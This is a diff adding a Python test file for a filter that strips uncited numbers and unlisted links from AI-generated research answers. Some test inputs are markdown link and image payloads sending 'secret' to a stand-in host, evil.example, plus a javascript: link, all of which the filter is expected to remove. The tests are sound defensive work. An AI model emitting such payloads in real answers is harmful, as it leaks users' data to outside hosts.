@@ -1,0 +1,77 @@
+"""What an answer refers to stood in its prompt."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from fixtures import MakeHost
+from genai_feature_research import text_views
+from genai_feature_research.citations import cited
+from hypothesis import given
+from hypothesis import strategies as st
+from research_engine import Scene, result
+
+PROMPT = "[1] Rivers — https://rivers.example/a\n[2] Lakes — https://lakes.example/b?c=d"
+
+
+@pytest.mark.parametrize(
+    ("answer", "text", "numbers"),
+    [
+        ("To the sea [1].", "To the sea [1].", (1,)),
+        ("To the sea[2] and back [1].", "To the sea[2] and back [1].", (1, 2)),
+        ("To the sea [3].", "To the sea.", ()),
+        ("To the sea [1, 3].", "To the sea [1].", (1,)),
+        ("To the sea [0][2].", "To the sea[2].", (2,)),
+        ("`a[3]` and ```\nb[7]\n```", "`a[3]` and ```\nb[7]\n```", ()),
+        ("See https://rivers.example/a.", "See https://rivers.example/a.", ()),
+        ("See https://rivers.example/other!", "See !", ()),
+        (
+            "See [a page](https://lakes.example/b?c=d).",
+            "See [a page](https://lakes.example/b?c=d).",
+            (),
+        ),
+        ("See [a page](https://evil.example/?q=secret).", "See a page.", ()),
+        ("![x](https://evil.example/?q=secret)", "x", ()),
+        ('[x](https://evil.example "a title") y', "x y", ()),
+        ("[x](javascript:alert(1))", "x)", ()),
+        ("<https://evil.example>", "", ()),
+        ("`https://evil.example`", "``", ()),
+        ("HTTPS://EVIL.EXAMPLE", "", ()),
+        ("[2024] was a year [see 1]", " was a year [see 1]", ()),
+    ],
+)
+def test_what_is_left_of_an_answer(answer: str, text: str, numbers: tuple[int, ...]) -> None:
+    found = cited(answer, PROMPT, 2)
+    assert (found.text, found.numbers) == (text, numbers)
+    assert bool(found.left_out) == (answer != text)
+
+
+@given(st.text(alphabet="[]()12345, .!`<>ahtps:/\n", max_size=200))
+def test_no_number_and_no_address_is_left_that_was_not_there(answer: str) -> None:
+    text = cited(answer, "nothing", 2).text
+    plain = re.sub(r"```.*?(?:```|\Z)|`[^`\n]+`", "", text, flags=re.DOTALL)
+    assert all(int(each) in (1, 2) for each in re.findall(r"\[(\d{1,4})\](?!\(|\w)", plain))
+
+
+def test_an_answer_refers_to_what_the_model_was_shown(make_host: MakeHost) -> None:
+    scene = Scene(make_host)
+    scene.engine.results = lambda query: [
+        result("Rivers run to the sea.", "https://rivers.example", "Rivers")
+    ]
+    scene.says = "To the sea [1], and up [4]; see https://evil.example/?q=secret"
+    conversation = scene.host.open("research", "fake", models=scene.roles, settings=scene.settings)
+    answer = conversation.say("Where do rivers run to?")
+    assert answer.summary == "To the sea [1], and up; see "
+    assert answer.data["sources"] == [
+        {"number": 1, "title": "Rivers", "link": "https://rivers.example"}
+    ]
+    kinds = [reaction["type"] for reaction in answer.reactions]
+    assert kinds == ["sources", "warnings"]
+    assert [*text_views.sources(answer.reactions[0], 80)] == [
+        "[1] Rivers",
+        "    https://rivers.example",
+    ]
+    warned = [*text_views.warnings(answer.reactions[1], 30)]
+    assert " ".join(warned).startswith("! left out of the answer")
+    assert len(warned) > 1
